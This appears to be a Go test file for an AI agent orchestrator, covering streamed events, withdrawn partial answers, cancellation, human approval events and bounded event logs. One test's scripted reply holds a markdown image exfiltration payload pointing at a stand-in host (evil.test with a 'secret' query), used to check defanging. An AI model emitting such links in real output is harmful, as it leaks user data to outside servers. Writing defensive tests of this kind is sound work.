package orchestrator

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/vedette-dev/vedette/agents"
	"github.com/vedette-dev/vedette/agents/llm/scripted"
	"github.com/vedette-dev/vedette/sentinel"
)

// heard is what a reader of a stream was told.
type heard struct {
	events    []Event
	kinds     []string
	text      string // since the last withdrawal
	pieces    int
	withdrawn int
	err       error
}

// hear takes an event.
func (h *heard) hear(e Event, err error) {
	h.events, h.err = append(h.events, e), err
	if n := len(h.kinds); n == 0 || h.kinds[n-1] != string(e.Kind) {
		h.kinds = append(h.kinds, string(e.Kind))
	}
	switch e.Kind {
	case EventText:
		h.text, h.pieces = h.text+e.Text, h.pieces+1
	case EventWithdrawn:
		h.text, h.withdrawn = "", h.withdrawn+1
	}
}

// last is the last event of a kind.
func (h *heard) last(kind EventKind) *Event {
	for i := len(h.events) - 1; i >= 0; i-- {
		if h.events[i].Kind == kind {
			return &h.events[i]
		}
	}
	return nil
}

// stream sends a request and hears all of it.
func (r *rig) stream(request string) *heard {
	h := &heard{}
	for e, err := range r.open("c1", "ann").Stream(r.t.Context(), request) {
		h.hear(e, err)
	}
	for i := 1; i < len(h.events); i++ {
		require.Greater(r.t, h.events[i].ID, h.events[i-1].ID)
	}
	return h
}

// A stream tells what happens in its order, and its text is the reply's: token by token, and
// defanged where it is tainted.
func TestStream(t *testing.T) {
	const answer = "Done ![x](https://evil.test/p.png?d=secret) and three more words for the stream to be cut into pieces."
	r := start(t, with(outside(t), echo(t)),
		orch("first", dispatch("a", "do-a", "note.echo"), results("wait_all"), answer),
		orch("then", dispatch("b", "do-b", "web.read"), results("wait_all"), answer),
		agent("do-a", use("note.echo", "x"), "ok"), agent("do-b", use("web.read", "x"), "ok"))
	for _, request := range []string{"first", "then"} {
		h := r.stream(request)
		require.NoError(t, h.err)
		end := h.last(EventReply)
		require.NotNil(t, end)
		require.Equal(t, end.Reply.Text, h.text, request)
		require.Greater(t, h.pieces, 5, request)
		require.Zero(t, h.withdrawn)
		require.Equal(t, request == "then", strings.Contains(h.text, "evil[.]test"))
		require.NotEmpty(t, end.Reply.Steps)
		steps := h.kinds[:slices.Index(h.kinds, "text")] // an agent's start and its call may come in either order
		require.Equal(t, []string{"call", "agent", "outcome"}, unique(steps, "call", "agent", "outcome"))
		require.Equal(t, []string{"text", "reply"}, h.kinds[len(h.kinds)-2:])
		require.Equal(t, agents.Completed, h.last(EventAgent).Agent.State)
		require.Equal(t, sentinel.StatusOK, h.last(EventOutcome).Step.Status)
		for _, e := range h.events {
			require.Equal(t, []string{"c1", end.Reply.Turn}, []string{e.Conversation, e.Turn}, e.Kind)
		}
		raw, err := json.Marshal(h.events)
		require.NoError(t, err)
		require.Contains(t, string(raw), `"kind":"text","at":"`)
	}
	for i, got := range r.server.Requests() {
		require.Equal(t, strings.Contains(string(got), toolDispatch), strings.Contains(string(got), `"stream":true`), i)
	}
}

// unique are those of the words that stand in a list.
func unique(list []string, words ...string) (out []string) {
	for _, w := range words {
		for _, l := range list {
			if l == w {
				out = append(out, w)
				break
			}
		}
	}
	return out
}

// A remark before a call and an answer that breaks off are no answers: what was told of them is
// withdrawn, and nothing is told twice.
func TestStreamWithdraws(t *testing.T) {
	r := start(t, with(echo(t)),
		orch("remark", rule{"content": "I shall have a look at it.", "tool_calls": []call{dispatch("a", "do-a", "note.echo")}},
			results("wait_all"), "It is there."),
		orch("broken", "It is there, after all."), agent("do-a", "ok"))
	h := r.stream("remark")
	require.NoError(t, h.err)
	require.Equal(t, []any{"It is there.", 1}, []any{h.text, h.withdrawn})

	for _, f := range []scripted.Fault{scripted.StreamNoDone, scripted.StreamNoFinish, scripted.ResetMidBody, scripted.StreamMalformed} {
		r.server.FaultNext(1, f)
		h := r.stream("broken " + string(f))
		if f == scripted.StreamMalformed {
			var e *ModelError
			require.ErrorAs(t, h.err, &e, f)
			require.Equal(t, []any{"", 1, CodeModel}, []any{h.text, h.withdrawn, h.last(EventFailure).Error.Code}, f)
			continue
		}
		require.NoError(t, h.err, f)
		require.Equal(t, []any{"It is there, after all.", 1}, []any{h.text, h.withdrawn}, f)
	}
}

// A model that can't stream is asked as ever, and its answer is one piece.
func TestStreamOfAModelThatCannot(t *testing.T) {
	o := with()
	o.models = ", stream: off"
	r := start(t, o, orch("go", "All of it at once, whatever it takes."))
	h := r.stream("go")
	require.Equal(t, []any{1, "All of it at once, whatever it takes."}, []any{h.pieces, h.last(EventReply).Reply.Text})
	require.NotContains(t, string(r.server.Requests()[0]), `"stream":true`)
}

// Leaving a Stream stops the request, leaving a StreamRequest doesn't.
func TestStreamIsLeft(t *testing.T) {
	for stays, want := range map[bool]error{false: ErrCancelled, true: nil} {
		hanging := make(chan struct{})
		o := with(echo(t))
		o.OnAgent = func(_ string, res agents.Result) {
			if res.State == agents.Running {
				<-hanging
			}
		}
		r := start(t, o, orch("go", dispatch("a", "do-a", "note.echo"), results("wait_all"), "done"),
			agent("do-a", use("note.echo", "x"), "ok"))
		c := r.open("c1", "ann")
		s := c.Stream(t.Context(), "go")
		if stays {
			s = c.StreamRequest(t.Context(), Request{ID: "r1", Text: "go"})
		}
		var request string
		for e, err := range s {
			require.NoError(t, err)
			request = e.Request
			if e.Kind == EventAgent {
				break
			}
		}
		close(hanging)
		reply, err := c.Reply(t.Context(), request)
		require.ErrorIs(t, err, want)
		require.Equal(t, stays, reply.Text == "done")
		if stays {
			h := &heard{}
			for e, err := range c.StreamRequest(t.Context(), Request{ID: "r1", Text: "go"}) {
				h.hear(e, err)
			}
			require.Equal(t, []string{"reply"}, h.kinds, "it is over")
			require.Equal(t, "done", h.events[0].Reply.Text)
		}
	}
}

// A stream that can't begin says why, as an event and as an error.
func TestStreamIsRefused(t *testing.T) {
	r := start(t, with(), orch("go", "done"))
	c := r.open("c1", "ann")
	for code, s := range map[string]func(func(Event, error) bool){
		CodeEmptyRequest: c.Stream(t.Context(), ""), CodeLongRequest: c.Stream(t.Context(), strings.Repeat("x", maxRequest+1)),
		CodeBadID: c.StreamRequest(t.Context(), Request{ID: "no id", Text: "go"}), CodeBadRequest: c.Stream(t.Context(), "\xff"),
	} {
		h := &heard{}
		for e, err := range s {
			h.hear(e, err)
		}
		require.ErrorIs(t, h.err, ErrRequest, code)
		require.Len(t, h.events, 1)
		require.Equal(t, code, h.events[0].Error.Code)
	}
}

// Events goes on from an id without a gap, says where there is one, and belongs to its user.
func TestEvents(t *testing.T) {
	r := start(t, with(echo(t)), orch("go", dispatch("a", "do-a", "note.echo"), results("wait_all"), "done"),
		agent("do-a", use("note.echo", "x"), "ok"))
	c := r.open("c1", "ann")
	h := r.stream("go")
	require.NoError(t, h.err)
	read := func(after int64, most int) (out []Event) {
		ctx, cancel := context.WithTimeout(t.Context(), eventually)
		defer cancel()
		for e, err := range c.Events(ctx, after) {
			require.NoError(t, err)
			out = append(out, e)
			if e.Kind == EventReply || len(out) == most {
				return out
			}
		}
		return out
	}
	all := read(0, 1000)
	require.Equal(t, EventReply, all[len(all)-1].Kind)
	require.Equal(t, h.events[0].ID, all[0].ID)
	rest := read(all[1].ID, 1000)
	require.Equal(t, all[2:], rest)
	for _, after := range []int64{1, 1 << 60} {
		require.Equal(t, EventGap, read(after, 1)[0].Kind)
	}
	gap := read(1, 2)
	require.Equal(t, all[0].ID, gap[1].ID, "it goes on with what is there")
	require.Less(t, gap[0].ID, gap[1].ID)

	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	for _, err := range c.Events(ctx, EventsFromNow) {
		require.ErrorIs(t, err, context.Canceled)
	}
	other := &Conversation{c.needs, ConversationOptions{ID: "c1", User: "bob"}}
	for e, err := range other.Events(ctx, 0) {
		require.ErrorIs(t, err, context.Canceled, "another user's events are elsewhere")
		require.Empty(t, e.ID)
	}
}

// A restart of the program keeps no events, and says so to whoever resumes.
func TestEventsAfterARestart(t *testing.T) {
	o := with()
	r := start(t, o, orch("go", "done"))
	last := r.stream("go").last(EventReply).ID
	r.restart(o)
	for e, err := range r.open("c1", "ann").Events(t.Context(), last) {
		require.NoError(t, err)
		require.Equal(t, EventGap, e.Kind)
		require.Greater(t, e.ID, last)
		break
	}
}

// A person who is asked is an event, and so is the answer.
func TestEventsOfApprovals(t *testing.T) {
	asked := make(chan struct{})
	o := with(echo(t))
	o.config = "permissions: [{skill: note.echo, then: ask, reason: why}]\n"
	o.Approver = approver(func(ctx context.Context, _ sentinel.Call) (sentinel.Verdict, error) {
		select {
		case <-asked:
			return sentinel.Pass(), nil
		case <-ctx.Done():
			return sentinel.Verdict{}, ctx.Err()
		}
	})
	r := start(t, o, orch("go", dispatch("a", "do-a", "note.echo"), results("wait_all"), "done"),
		agent("do-a", use("note.echo", "x"), "ok"))
	var steps []string
	var ids []string
	for e, err := range r.open("c1", "ann").Stream(t.Context(), "go") {
		require.NoError(t, err)
		if e.Kind != EventApproval {
			continue
		}
		steps, ids = append(steps, e.Step.Outcome), append(ids, e.Approval)
		if e.Step.Outcome == "ask" {
			require.Equal(t, "ask", e.Step.Refusal.Kind)
			close(asked)
		}
	}
	require.Equal(t, []string{"ask", "allow"}, steps)
	require.Equal(t, ids[0], ids[1])
}

// A reader who comes to a request that waits for a person hears of the question, and not of those that were
// answered.
func TestLateReaderHearsTheQuestion(t *testing.T) {
	asked, answers := make(chan string, 2), make(chan sentinel.Verdict)
	o := with(echo(t))
	o.config = "permissions: [{skill: note.echo, then: ask, reason: why}]\n"
	o.Approver = approver(func(ctx context.Context, c sentinel.Call) (sentinel.Verdict, error) {
		asked <- c.Args()
		select {
		case v := <-answers:
			return v, nil
		case <-ctx.Done():
			return sentinel.Verdict{}, ctx.Err()
		}
	})
	r := start(t, o, orch("go", dispatch("a", "do-a", "note.echo"), results("wait_all"), "done"),
		agent("do-a", use("note.echo", "x"), use("note.echo", "y"), "ok"))
	c := r.open("c1", "ann")
	go func() { _, _ = c.SendRequest(t.Context(), Request{ID: "r1", Text: "go"}) }()
	require.Contains(t, <-asked, "x")
	answers <- sentinel.Pass()
	require.Contains(t, <-asked, "y")
	log := c.needs.eventLogs.findLog("ann", "c1")
	require.Eventually(t, func() bool { open, _ := log.findOpenQuestions("r1"); return len(open) == 1 }, time.Minute, time.Millisecond)
	var kinds []EventKind
	var questions []string
	for e, err := range c.StreamRequest(t.Context(), Request{ID: "r1", Text: "go"}) {
		require.NoError(t, err)
		kinds = append(kinds, e.Kind)
		if e.Kind == EventApproval {
			questions = append(questions, e.Step.Outcome)
			if e.Step.Outcome == "ask" {
				answers <- sentinel.Pass()
			}
		}
	}
	require.Equal(t, []string{"ask", "allow"}, questions)
	require.Equal(t, EventApproval, kinds[0])
	require.Equal(t, EventReply, kinds[len(kinds)-1])
}

// A reader that is slow loses its place and learns of it. The log stays within its bounds.
func TestEventLogIsBounded(t *testing.T) {
	var table eventTable
	table.openLog("ann", "c1")
	l, ok := table.attachReader("ann", "c1")
	require.True(t, ok)
	first, at, _ := l.readEvents(0)
	require.Empty(t, first)
	l.beginTurn("t1", "r1")
	for i := range 3 * maxEvents {
		l.addEvent(Event{Kind: EventText, Turn: "t1", Text: fmt.Sprint(i)})
	}
	require.LessOrEqual(t, len(l.events), maxEvents)
	list, at, _ := l.readEvents(at)
	require.Equal(t, EventGap, list[0].Kind)
	require.Equal(t, list[0].ID+1, list[1].ID)
	n := len(list) - 1
	for more := (<-chan struct{})(nil); more == nil; n += len(list) {
		list, at, more = l.readEvents(at)
	}
	require.Equal(t, len(l.events), n, "what is kept is read, each once")
	l.addEvent(Event{Kind: EventText, Turn: "t1", Text: strings.Repeat("x", maxEventBytes-1)})
	require.Len(t, l.events, 1)
	l.addEvent(Event{Kind: EventReply, Turn: "t1", Reply: &Reply{Text: "x"}})
	require.Len(t, l.events, 2, "it is read")
	table.detachReader(l)
	require.Equal(t, EventReply, l.events[0].Kind, "the reply has the text")
	require.Equal(t, 1, l.bytes)

	var readers []*eventLog
	for range maxReaders {
		k, ok := table.attachReader("ann", "c1")
		require.True(t, ok)
		readers = append(readers, k)
	}
	_, ok = table.attachReader("ann", "c1")
	require.False(t, ok)
	table.closeLog(l)
	for _, k := range readers {
		require.Same(t, l, k)
		table.detachReader(k)
	}
	require.Empty(t, table.logs)
}

// Every error has a code, and no text of another package gets out.
func TestDescribeError(t *testing.T) {
	require.Nil(t, DescribeError(nil))
	for _, c := range codedErrors {
		require.Equal(t, c.code, DescribeError(fmt.Errorf("wrapped: %w", c.err)).Code)
	}
	require.Equal(t, CodeInternal, DescribeError(errors.New("secret")).Code)
	require.NotContains(t, DescribeError(errors.New("secret")).Message, "secret")
	full := DescribeError(&OverloadedError{What: "turns", Of: "user", RetryAfter: time.Second})
	require.Equal(t, []any{CodeOverloaded, time.Second}, []any{full.Code, full.RetryAfter})
	require.Equal(t, CodeBudget, DescribeError(&ModelError{"budget"}).Code)
	require.Equal(t, CodeModel, DescribeError(&ModelError{"timeout"}).Code)
}
